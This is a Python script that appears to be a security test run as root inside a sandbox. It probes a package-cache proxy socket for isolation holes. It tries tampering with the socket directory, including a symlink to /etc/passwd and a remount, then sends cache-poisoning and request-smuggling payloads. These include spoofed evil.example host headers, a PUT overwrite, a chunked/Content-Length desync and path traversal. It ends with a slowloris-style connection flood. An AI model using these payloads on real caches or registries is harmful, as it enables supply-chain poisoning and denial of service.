"""Runs as root in a machine: tries to change what the package cache gives to others. Prints what it could do."""

# ruff: noqa: T201
from __future__ import annotations

import os
import socket
import ssl
import sys
import threading

DOOR = "/run/cloudrouter/packages"
NPM = "registry.npmjs.org"
could = []

for path in ("x", "socket", "nonce"):
    try:
        open(f"{DOOR}/{path}", "w").close()
        could.append(f"write {path}")
    except OSError:
        pass
for act in (
    lambda: os.unlink(f"{DOOR}/socket"),
    lambda: os.rename(f"{DOOR}/nonce", f"{DOOR}/x"),
    lambda: os.mkdir(f"{DOOR}/d"),
    lambda: os.chmod(f"{DOOR}/socket", 0o777),
    lambda: os.symlink("/etc/passwd", f"{DOOR}/l"),
):
    try:
        act()
        could.append("change the door")
    except OSError:
        pass
if os.system(f"mount -o remount,rw {DOOR} 2>/dev/null") == 0:
    could.append("remount")


def connect():
    context = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")
    plain = socket.socket(socket.AF_UNIX)
    plain.settimeout(10)
    plain.connect(f"{DOOR}/socket")
    return context.wrap_socket(plain, server_hostname=NPM)


def say(data):
    try:
        with connect() as tls:
            tls.sendall(data)
            got = b""
            while part := tls.recv(65536):
                got += part
                if len(got) > 300:
                    break
            return got
    except OSError:
        return b""


inner = f"GET /left-pad/-/left-pad-1.3.0.tgz HTTP/1.1\r\nHost: {NPM}\r\n\r\n"
evil = "X-Forwarded-Host: evil.example\r\nX-Original-URL: /react\r\nX-Rewrite-URL: /react\r\nForwarded: host=evil\r\n"
path = "/left-pad/-/left-pad-1.3.0.tgz"
close = "Connection: close\r\n\r\n"
for data in (
    f"GET {path} HTTP/1.1\r\nHost: {NPM}\r\n{evil}Accept: text/evil\r\nRange: bytes=0-3\r\n{close}",
    f"GET {path} HTTP/1.1\r\nHost: {NPM}\r\n{evil}Authorization: Bearer x\r\n{close}",
    f"GET https://{NPM}/react HTTP/1.1\r\nHost: {NPM}\r\n{close}",
    f"GET {path} HTTP/1.1\r\nHost: evil.example\r\n{close}",
    f"PUT {path} HTTP/1.1\r\nHost: {NPM}\r\nContent-Length: 4\r\nConnection: close\r\n\r\nevil",
    (
        f"POST {path} HTTP/1.1\r\nHost: {NPM}\r\nContent-Length: {len(inner)}\r\n"
        f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
    ),
    f"GET /left-pad/-/../../react/-/react-18.2.0.tgz HTTP/1.1\r\nHost: {NPM}\r\n{close}",
    f"GET /left-pad/-/..%2f..%2freact HTTP/1.1\r\nHost: {NPM}\r\n{close}",
    f"GET {path} HTTP/1.1\r\nHost: {NPM}\r\nX: {'a' * 100000}\r\n{close}",
    f"GET {path}?{'a' * 7000} HTTP/1.1\r\nHost: {NPM}\r\n{close}",
):
    say(data.encode())

# Take as many connections as there are, and say nothing on them.
held = []


def hold():
    for _ in range(60):
        try:
            one = connect()
            one.sendall(b"GET / HT")
            held.append(one)
        except OSError:
            pass


threads = [threading.Thread(target=hold) for _ in range(6)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(f"could {sorted(set(could))}, holds {len(held)}", flush=True)
sys.stdin.read()
